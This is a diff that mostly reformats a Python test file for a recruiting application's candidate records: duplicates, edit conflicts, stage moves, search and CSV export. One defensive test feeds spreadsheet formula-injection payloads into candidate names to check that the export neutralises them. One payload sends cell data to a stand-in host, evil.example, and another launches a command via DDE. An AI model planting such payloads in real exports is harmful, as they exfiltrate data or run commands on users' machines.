@@ -51,8 +51,17 @@ def search(session: Session, actor, **kw: object) -> candidates.SearchResult:
 
 def test_a_recruiter_creates_a_candidate_owned_by_themselves(session, make, frozen_clock) -> None:
     recruiter = make.user("recruiter")
-    cand = create(session, recruiter, name=" 张伟 ", email="Zhang.Wei@Example.com", phone="+86 138 0013 8000",
-                  wechat_id="ZhangWei_88", tags="Java, 后端，java", consent=True, source="referral")
+    cand = create(
+        session,
+        recruiter,
+        name=" 张伟 ",
+        email="Zhang.Wei@Example.com",
+        phone="+86 138 0013 8000",
+        wechat_id="ZhangWei_88",
+        tags="Java, 后端，java",
+        consent=True,
+        source="referral",
+    )
     stored = session.get(Candidate, cand.id)
     assert stored.name == "张伟"
     assert stored.email == "zhang.wei@example.com"
@@ -73,8 +82,9 @@ def test_a_candidate_may_be_reached_by_phone_only_or_email_only(session, make) -
 def test_creating_a_candidate_for_an_open_job_starts_an_application_in_interviewing(session, make) -> None:
     recruiter = make.user("recruiter")
     job = make.job(actor=recruiter)
-    cand = candidates.create_candidate(session=session, actor=recruiter, job_id=job.id,
-                                       candidate_in={"name": "李娜", "email": "li.na@example.com"})
+    cand = candidates.create_candidate(
+        session=session, actor=recruiter, job_id=job.id, candidate_in={"name": "李娜", "email": "li.na@example.com"}
+    )
     app = application_of(session, cand)
     assert (app.job_id, app.stage, app.created_by_id) == (job.id, Stage.interviewing, recruiter.id)
     [change] = session.exec(select(StageChange).where(StageChange.application_id == app.id)).all()
@@ -95,8 +105,11 @@ def test_creating_a_candidate_for_an_open_job_starts_an_application_in_interview
         ({"name": "名" * 101, "email": "a@example.com"}, "name", "err.too_long"),
         ({"name": "张伟", "email": "a@example.com", "notes": "x" * 10_000_000}, "notes", "err.too_long"),
         ({"name": "张伟", "email": "a@example.com", "source": "newspaper"}, "source", "err.source_invalid"),
-        ({"name": "张伟", "email": "a@example.com", "tags": ",".join(f"t{i}" for i in range(21))}, "tags",
-         "err.tags_invalid"),
+        (
+            {"name": "张伟", "email": "a@example.com", "tags": ",".join(f"t{i}" for i in range(21))},
+            "tags",
+            "err.tags_invalid",
+        ),
         ({"name": "张伟", "email": "a@example.com", "language": "fr"}, "language", "err.choice_invalid"),
     ],
 )
@@ -155,8 +168,12 @@ def test_the_same_phone_digits_written_differently_are_a_duplicate(session, make
 def test_allow_duplicate_saves_a_second_candidate_with_the_same_contact(session, make) -> None:
     recruiter = make.user("recruiter")
     create(session, recruiter, name="张伟", email="zhang.wei@example.com")
-    candidates.create_candidate(session=session, actor=recruiter, allow_duplicate=True,
-                                candidate_in={"name": "张伟 (2)", "email": "zhang.wei@example.com"})
+    candidates.create_candidate(
+        session=session,
+        actor=recruiter,
+        allow_duplicate=True,
+        candidate_in={"name": "张伟 (2)", "email": "zhang.wei@example.com"},
+    )
     assert count(session, Candidate) == 2
 
 
@@ -165,19 +182,29 @@ def test_changing_the_email_to_another_candidates_is_a_duplicate_unless_allowed(
     first = create(session, recruiter, name="张伟", email="zhang@example.com")
     second = create(session, recruiter, name="李娜", email="li@example.com")
     with pytest.raises(DuplicateCandidate) as caught:
-        candidates.update_candidate(session=session, actor=recruiter, candidate_id=second.id,
-                                    candidate_in=form(second, email="zhang@example.com"))
+        candidates.update_candidate(
+            session=session,
+            actor=recruiter,
+            candidate_id=second.id,
+            candidate_in=form(second, email="zhang@example.com"),
+        )
     assert [c.id for c in caught.value.existing] == [first.id]
-    saved = candidates.update_candidate(session=session, actor=recruiter, candidate_id=second.id,
-                                        candidate_in=form(second, email="zhang@example.com"), allow_duplicate=True)
+    saved = candidates.update_candidate(
+        session=session,
+        actor=recruiter,
+        candidate_id=second.id,
+        candidate_in=form(second, email="zhang@example.com"),
+        allow_duplicate=True,
+    )
     assert saved.email == "zhang@example.com"
 
 
 def test_saving_a_candidate_without_changing_contact_is_not_a_duplicate_of_itself(session, make) -> None:
     recruiter = make.user("recruiter")
     cand = create(session, recruiter, name="张伟", email="zhang@example.com", phone="13800138000")
-    saved = candidates.update_candidate(session=session, actor=recruiter, candidate_id=cand.id,
-                                        candidate_in=form(cand, notes="called back"))
+    saved = candidates.update_candidate(
+        session=session, actor=recruiter, candidate_id=cand.id, candidate_in=form(cand, notes="called back")
+    )
     assert saved.notes == "called back"
 
 
@@ -188,11 +215,29 @@ def test_an_edit_saves_every_field_and_bumps_the_version(session, make, frozen_c
     recruiter = make.user("recruiter")
     other = make.user("recruiter")
     cand = create(session, recruiter, name="张伟", email="zhang@example.com", phone="13800138000")
-    saved = candidates.update_candidate(session=session, actor=recruiter, candidate_id=cand.id, candidate_in=form(
-        cand, name="张伟伟", phone="+86 139 1234 5678", wechat_id="zw_1", tags="go", owner_id=other.id,
-        language="en", consent=True, source="campus"))
+    saved = candidates.update_candidate(
+        session=session,
+        actor=recruiter,
+        candidate_id=cand.id,
+        candidate_in=form(
+            cand,
+            name="张伟伟",
+            phone="+86 139 1234 5678",
+            wechat_id="zw_1",
+            tags="go",
+            owner_id=other.id,
+            language="en",
+            consent=True,
+            source="campus",
+        ),
+    )
     assert (saved.name, saved.phone_digits, saved.owner_id, saved.language, saved.version) == (
-        "张伟伟", "13912345678", other.id, "en", 2)
+        "张伟伟",
+        "13912345678",
+        other.id,
+        "en",
+        2,
+    )
     assert saved.consent_at == utcnow()
     assert "zw_1" in saved.search_text and "13912345678" in saved.search_text
     assert search(session, recruiter, q="张伟伟").total == 1
@@ -202,8 +247,9 @@ def test_an_edit_that_is_refused_by_validation_changes_nothing(session, make) ->
     recruiter = make.user("recruiter")
     cand = create(session, recruiter, name="张伟", email="zhang@example.com")
     with pytest.raises(ValidationError) as caught:
-        candidates.update_candidate(session=session, actor=recruiter, candidate_id=cand.id,
-                                    candidate_in=form(cand, email="", phone=""))
+        candidates.update_candidate(
+            session=session, actor=recruiter, candidate_id=cand.id, candidate_in=form(cand, email="", phone="")
+        )
     assert caught.value.fields["__all__"][0] == "err.contact_required"
     session.expire_all()
     assert session.get(Candidate, cand.id).email == "zhang@example.com"
@@ -212,19 +258,28 @@ def test_an_edit_that_is_refused_by_validation_changes_nothing(session, make) ->
 def test_editing_an_unknown_candidate_is_not_found(session, make) -> None:
     recruiter = make.user("recruiter")
     with pytest.raises(NotFound):
-        candidates.update_candidate(session=session, actor=recruiter, candidate_id=9999,
-                                    candidate_in={"name": "X", "email": "x@example.com", "version": 1})
+        candidates.update_candidate(
+            session=session,
+            actor=recruiter,
+            candidate_id=9999,
+            candidate_in={"name": "X", "email": "x@example.com", "version": 1},
+        )
 
 
 def test_a_save_from_a_stale_version_is_a_conflict_and_nothing_is_lost(session, make) -> None:
     recruiter = make.user("recruiter")
     cand = create(session, recruiter, name="张伟", email="zhang@example.com")
     stale = form(cand)
-    candidates.update_candidate(session=session, actor=recruiter, candidate_id=cand.id,
-                                candidate_in=form(cand, notes="offer expected on Friday"))
+    candidates.update_candidate(
+        session=session,
+        actor=recruiter,
+        candidate_id=cand.id,
+        candidate_in=form(cand, notes="offer expected on Friday"),
+    )
     with pytest.raises(Conflict) as caught:
-        candidates.update_candidate(session=session, actor=recruiter, candidate_id=cand.id,
-                                    candidate_in=stale | {"name": "张伟 (edited)"})
+        candidates.update_candidate(
+            session=session, actor=recruiter, candidate_id=cand.id, candidate_in=stale | {"name": "张伟 (edited)"}
+        )
     assert caught.value.current.version == 2
     assert caught.value.current.notes == "offer expected on Friday"
     session.expire_all()
@@ -241,8 +296,12 @@ def test_two_editors_saving_the_same_version_exactly_one_wins(engine, make) -> N
         mine, theirs = first.get(Candidate, cand.id), second.get(Candidate, cand.id)
         for sess, loaded, note in ((first, mine, "first"), (second, theirs, "second")):
             try:
-                done(sess, candidates.update_candidate(session=sess, actor=recruiter, candidate_id=cand.id,
-                                                       candidate_in=form(loaded, notes=note)))
+                done(
+                    sess,
+                    candidates.update_candidate(
+                        session=sess, actor=recruiter, candidate_id=cand.id, candidate_in=form(loaded, notes=note)
+                    ),
+                )
                 results.append("saved")
             except Conflict as exc:
                 results.append("conflict")
@@ -252,16 +311,16 @@ def test_two_editors_saving_the_same_version_exactly_one_wins(engine, make) -> N
     with Session(engine) as fresh:
         stored = fresh.get(Candidate, cand.id)
         assert (stored.notes, stored.version) == ("first", 2)
-        updates = fresh.exec(select(AuditLog).where(AuditLog.entity == "candidate",
-                                                    AuditLog.action == "update")).all()
+        updates = fresh.exec(select(AuditLog).where(AuditLog.entity == "candidate", AuditLog.action == "update")).all()
         assert len(updates) == 1
 
 
 def test_withdrawing_consent_clears_the_consent_time(session, make) -> None:
     recruiter = make.user("recruiter")
     cand = create(session, recruiter, name="张伟", email="zhang@example.com", consent=True)
-    saved = candidates.update_candidate(session=session, actor=recruiter, candidate_id=cand.id,
-                                        candidate_in=form(cand, consent=False))
+    saved = candidates.update_candidate(
+        session=session, actor=recruiter, candidate_id=cand.id, candidate_in=form(cand, consent=False)
+    )
     assert (saved.consent, saved.consent_at) == (False, None)
 
 
@@ -270,8 +329,9 @@ def test_a_hiring_manager_cannot_edit_a_candidate(session, make) -> None:
     manager = make.user("hiring_manager")
     cand = make.candidate(actor=admin, job=make.job(actor=admin, hiring_manager_id=manager.id))
     with pytest.raises(NotAllowed):
-        candidates.update_candidate(session=session, actor=manager, candidate_id=cand.id,
-                                    candidate_in=form(cand, name="Changed"))
+        candidates.update_candidate(
+            session=session, actor=manager, candidate_id=cand.id, candidate_in=form(cand, name="Changed")
+        )
 
 
 # --- search -------------------------------------------------------------------------------------------------
@@ -283,17 +343,41 @@ def people(session, make) -> dict:
     admin = make.admin()
     recruiter, other = make.user("recruiter"), make.user("recruiter")
     backend, design = make.job(actor=admin, title="Backend"), make.job(actor=admin, title="Design")
-    zhang = create(session, recruiter, name="张伟", email="zhang.wei@example.com", phone="+86 138 0013 8000",
-                   wechat_id="zw_2024", source="referral", tags="java,go")
-    emma = create(session, recruiter, name="Emma Wilson", email="emma@example.org", phone="+44 20 7946 0958",
-                  source="campus", tags="react")
+    zhang = create(
+        session,
+        recruiter,
+        name="张伟",
+        email="zhang.wei@example.com",
+        phone="+86 138 0013 8000",
+        wechat_id="zw_2024",
+        source="referral",
+        tags="java,go",
+    )
+    emma = create(
+        session,
+        recruiter,
+        name="Emma Wilson",
+        email="emma@example.org",
+        phone="+44 20 7946 0958",
+        source="campus",
+        tags="react",
+    )
     li = create(session, other, name="李伟", email="li.wei@example.cn", phone="139 1234 5678", tags="java")
     for cand, job in ((zhang, backend), (emma, design), (li, backend)):
         candidates.add_application(session=session, actor=admin, candidate_id=cand.id, job_id=job.id)
-    candidates.move_stage(session=session, actor=admin, application_id=application_of(session, li).id,
-                          to_stage="decision_pending")
-    return {"admin": admin, "recruiter": recruiter, "other": other, "backend": backend, "design": design,
-            "zhang": zhang, "emma": emma, "li": li}
+    candidates.move_stage(
+        session=session, actor=admin, application_id=application_of(session, li).id, to_stage="decision_pending"
+    )
+    return {
+        "admin": admin,
+        "recruiter": recruiter,
+        "other": other,
+        "backend": backend,
+        "design": design,
+        "zhang": zhang,
+        "emma": emma,
+        "li": li,
+    }
 
 
 def test_search_finds_candidates_by_part_of_the_name(session, people) -> None:
@@ -413,7 +497,9 @@ def test_the_detail_shows_applications_next_stages_timeline_and_owner(session, p
     assert app.job == "Backend"
     assert app.next_stages == ["interviewing", "offer", "rejected", "talent_pool", "withdrawn"]
     assert [(t.from_stage, t.to_stage) for t in detail.timeline] == [
-        (None, "interviewing"), ("interviewing", "decision_pending")]
+        (None, "interviewing"),
+        ("interviewing", "decision_pending"),
+    ]
     assert detail.timeline[1].by == people["admin"].name
     assert detail.can_edit is True
 
@@ -440,8 +526,12 @@ def test_an_interviewer_cannot_open_a_candidate(session, make) -> None:
 def test_the_audit_trail_lists_the_creation_and_the_edit_with_its_changes(session, make) -> None:
     recruiter = make.user("recruiter", name="周敏")
     cand = create(session, recruiter, name="张伟", email="zhang@example.com")
-    candidates.update_candidate(session=session, actor=recruiter, candidate_id=cand.id,
-                                candidate_in=form(cand, name="张伟伟", notes="prefers mornings"))
+    candidates.update_candidate(
+        session=session,
+        actor=recruiter,
+        candidate_id=cand.id,
+        candidate_in=form(cand, name="张伟伟", notes="prefers mornings"),
+    )
     trail = candidates.get_candidate_detail(session=session, actor=recruiter, candidate_id=cand.id).audit
     assert [r["action"] for r in trail] == ["update", "create"]
     assert trail[0]["user"] == "周敏"
@@ -459,13 +549,11 @@ def pipeline(session, make) -> dict:
     manager = make.user("hiring_manager")
     job = make.job(actor=admin, hiring_manager_id=manager.id)
     cand = make.candidate(actor=admin, job=job)
-    return {"admin": admin, "manager": manager, "job": job, "candidate": cand,
-            "app": application_of(session, cand)}
+    return {"admin": admin, "manager": manager, "job": job, "candidate": cand, "app": application_of(session, cand)}
 
 
 def move(session: Session, actor, app: Application, to: str, reason: str = "", **kw: object) -> Application:
-    return candidates.move_stage(session=session, actor=actor, application_id=app.id, to_stage=to, reason=reason,
-                                 **kw)
+    return candidates.move_stage(session=session, actor=actor, application_id=app.id, to_stage=to, reason=reason, **kw)
 
 
 def test_a_stage_move_records_who_when_and_why(session, pipeline, frozen_clock) -> None:
@@ -473,10 +561,16 @@ def test_a_stage_move_records_who_when_and_why(session, pipeline, frozen_clock) 
     moved = move(session, recruiter, pipeline["app"], "decision_pending", reason="  panel agreed  ")
     assert moved.stage == Stage.decision_pending
     assert moved.stage_changed_at == utcnow()
-    last = session.exec(select(StageChange).where(StageChange.application_id == moved.id)
-                        .order_by(StageChange.id.desc())).first()
+    last = session.exec(
+        select(StageChange).where(StageChange.application_id == moved.id).order_by(StageChange.id.desc())
+    ).first()
     assert (last.from_stage, last.to_stage, last.by_user_id, last.reason, last.at) == (
-        "interviewing", "decision_pending", recruiter.id, "panel agreed", utcnow())
+        "interviewing",
+        "decision_pending",
+        recruiter.id,
+        "panel agreed",
+        utcnow(),
+    )
     row = session.exec(select(AuditLog).where(AuditLog.action == "move_stage")).one()
     assert json.loads(row.changes) == {"stage": ["interviewing", "decision_pending"], "reason": "panel agreed"}
 
@@ -537,11 +631,25 @@ def test_two_people_moving_the_same_application_at_once_only_one_succeeds(engine
         # Both people see the application in interviewing, and keep it loaded while they decide.
         held = [first.get(Application, app_id), second.get(Application, app_id)]
         assert [a.stage for a in held] == ["interviewing", "interviewing"]
-        done(first, candidates.move_stage(session=first, actor=admin, application_id=app_id,
-                                          to_stage="decision_pending", from_stage="interviewing"))
+        done(
+            first,
+            candidates.move_stage(
+                session=first,
+                actor=admin,
+                application_id=app_id,
+                to_stage="decision_pending",
+                from_stage="interviewing",
+            ),
+        )
         with pytest.raises(Conflict):
-            candidates.move_stage(session=second, actor=admin, application_id=app_id, to_stage="withdrawn",
-                                  reason="declined", from_stage="interviewing")
+            candidates.move_stage(
+                session=second,
+                actor=admin,
+                application_id=app_id,
+                to_stage="withdrawn",
+                reason="declined",
+                from_stage="interviewing",
+            )
     with Session(engine) as fresh:
         assert fresh.get(Application, app_id).stage == "decision_pending"
         changes = fresh.exec(select(StageChange).where(StageChange.application_id == app_id)).all()
@@ -630,11 +738,21 @@ def test_the_csv_export_follows_the_filters_and_pages_through_everything(session
     recruiter = make.user("recruiter")
     for i in range(105):
         make.candidate(actor=recruiter, name=f"导出 {i:03d}", source="campus" if i % 2 else "referral")
-    everyone = list(csv.reader(io.StringIO("".join(
-        candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff"))))
+    everyone = list(
+        csv.reader(
+            io.StringIO("".join(candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff"))
+        )
+    )
     assert len(everyone) == 1 + 105
-    campus = list(csv.reader(io.StringIO("".join(
-        candidates.export_candidates_csv(session=session, actor=recruiter, source="campus")).lstrip("\ufeff"))))
+    campus = list(
+        csv.reader(
+            io.StringIO(
+                "".join(candidates.export_candidates_csv(session=session, actor=recruiter, source="campus")).lstrip(
+                    "\ufeff"
+                )
+            )
+        )
+    )
     assert len(campus) == 1 + 52
     assert {r[5] for r in campus[1:]} == {"campus"}
 
@@ -669,15 +787,17 @@ def test_a_number_with_and_without_chinas_country_code_is_the_same_phone(make, s
     recruiter = make.user("recruiter")
     first = make.candidate(actor=recruiter, name="王芳", email=None, phone="13800138000")
     with pytest.raises(candidates.DuplicateCandidate) as caught:
-        candidates.create_candidate(session=session, actor=recruiter,
-                                    candidate_in={"name": "王芳", "phone": "+86 138 0013 8000"})
+        candidates.create_candidate(
+            session=session, actor=recruiter, candidate_in={"name": "王芳", "phone": "+86 138 0013 8000"}
+        )
     assert [c.id for c in caught.value.existing] == [first.id]
     found = candidates.search_candidates(session=session, actor=recruiter, q="0086 138 0013")
     assert [r["id"] for r in found.rows] == [first.id]
 
 
-@pytest.mark.parametrize("hostile", ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
-                                     "-2+3", "@SUM(1+1)"])
+@pytest.mark.parametrize(
+    "hostile", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+)
 def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_a_formula(session, make, hostile) -> None:
     recruiter = make.user("recruiter")
     make.candidate(actor=recruiter, name=hostile, wechat_id=hostile[:60], tags="")
@@ -689,7 +809,7 @@ def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_a_formula(s
     # Names are stripped on save; what was stored must come back with one leading quote, never live.
     for column in ("name", "wechat_id"):
         assert record[column][0] == "'", (column, record[column])
-        assert record[column][1:] == hostile[:60 if column == "wechat_id" else None]
+        assert record[column][1:] == hostile[: 60 if column == "wechat_id" else None]
 
 
 @pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\t=1"])
@@ -702,23 +822,28 @@ def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(cell) -> None:
 def test_the_csv_export_leaves_ordinary_cells_as_they_are(session, make) -> None:
     recruiter = make.user("recruiter")
     make.candidate(actor=recruiter, name="O'Brien 张", email="ob@example.com", phone="13800138000")
-    [row] = list(csv.reader(io.StringIO("".join(
-        candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff"))))[1:]
+    [row] = list(
+        csv.reader(
+            io.StringIO("".join(candidates.export_candidates_csv(session=session, actor=recruiter)).lstrip("\ufeff"))
+        )
+    )[1:]
     record = dict(zip(candidates.EXPORT_COLUMNS, row, strict=True))
     assert (record["name"], record["email"], record["phone"]) == ("O'Brien 张", "ob@example.com", "13800138000")
 
 
 @pytest.mark.parametrize("indexed", [False, True], ids=["without", "with the character index"])
 def test_a_search_of_one_or_two_chinese_characters_finds_the_texts_holding_them_in_that_order(
-        session, make, indexed: bool) -> None:
+    session, make, indexed: bool
+) -> None:
     """On PostgreSQL a search of one or two characters, not all ASCII, also asks the index of each text's
     characters (migration 0016; the trigram index cannot serve it): what it finds is what the LIKE alone finds —
     the characters together and in order, wildcards and markup taken as text."""
     from sqlalchemy import event, text
 
     if indexed and session.get_bind().dialect.name == "postgresql":
-        session.execute(text("CREATE INDEX ix_candidate_search_chars ON candidate "
-                             "USING gin (string_to_array(search_text, NULL))"))
+        session.execute(
+            text("CREATE INDEX ix_candidate_search_chars ON candidate USING gin (string_to_array(search_text, NULL))")
+        )
     recruiter = make.user("recruiter")
     names = {"王磊": None, "磊王": None, "王小磊": None, "Emma Wang": None, "100%王": None, "<b>王</b>": None}
     for name in names:
@@ -730,6 +855,7 @@ def test_a_search_of_one_or_two_chinese_characters_finds_the_texts_holding_them_
 
     event.listen(session.get_bind(), "before_cursor_execute", capture)
     try:
+
         def found(q: str) -> set[str]:
             return {r["name"] for r in search(session, recruiter, q=q).rows}
 
